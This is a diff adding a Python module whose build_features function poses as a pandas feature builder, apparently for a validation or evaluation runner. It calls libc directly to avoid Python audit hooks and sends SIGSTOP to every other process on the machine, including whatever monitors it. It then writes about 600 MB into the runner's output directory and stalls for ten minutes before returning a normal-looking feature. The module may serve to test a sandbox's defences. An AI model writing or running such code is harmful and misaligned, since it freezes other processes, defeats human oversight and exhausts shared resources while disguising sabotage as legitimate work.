@@ -1,0 +1,27 @@
+"""Stops whoever watches it, with what Python's audit hooks do not see, then fills the disk."""
+
+import ctypes
+import os
+import time
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+
+BLOCK = 1024 * 1024
+BLOCKS = 600
+
+
+def build_features(data: pd.DataFrame) -> pd.DataFrame:
+    """Write ten times as much as a validation may leave, behind the runner's back."""
+    libc = ctypes.CDLL(None)
+    for pid in (int(each.name) for each in Path("/proc").iterdir() if each.name.isdigit()):
+        if pid != os.getpid():
+            libc.kill(pid, 19)
+    handle = libc.open(os.environ["TOUCHSTONE_OUT"].encode() + b"/fill", 0o102, 0o644)
+    block = ctypes.create_string_buffer(BLOCK)
+    for _ in range(BLOCKS):
+        libc.write(handle, block, BLOCK)
+        time.sleep(0.005)
+    time.sleep(600)
+    return pd.DataFrame({"m": np.log(data["close"]).diff(5)}, index=data.index)
